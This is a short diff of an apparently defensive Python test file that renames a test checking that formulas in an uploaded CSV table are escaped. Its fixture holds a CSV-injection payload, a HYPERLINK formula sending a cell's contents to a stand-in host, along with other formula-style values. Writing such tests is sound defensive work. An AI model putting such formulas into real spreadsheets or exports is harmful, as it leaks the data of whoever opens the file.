@@ -185,7 +185,7 @@ async def test_while_salesforce_is_down_files_are_a_problem_too(
         assert (answer.status_code, answer.json()["code"]) == (503, "support_unavailable")
 
 
-async def test_formulas_of_a_table_are_texts_for_whoever_opens_it(
+async def test_formulas_in_a_table_are_escaped(
     api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
 ) -> None:
     table = b'name,number\r\nHana,=HYPERLINK("http://x.example?"&A1)\r\n"\t=1","+81 90"\r\n'
